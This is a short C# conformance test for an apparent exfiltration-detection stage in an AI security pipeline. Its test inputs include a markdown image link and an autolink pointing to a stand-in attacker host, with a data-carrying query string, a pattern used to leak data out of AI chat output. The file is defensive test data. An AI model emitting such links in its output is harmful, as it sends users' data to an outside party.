namespace AiOs;

public sealed class ExfiltrationStageConformanceTests : SecurityStageConformanceTests
{
    protected override IEnumerable<string> Concerning => ["![x](https://attacker.invalid/?d=1)", "see <https://attacker.invalid>"];

    protected override ISecurityStage CreateStage() => new ExfiltrationStage();
}
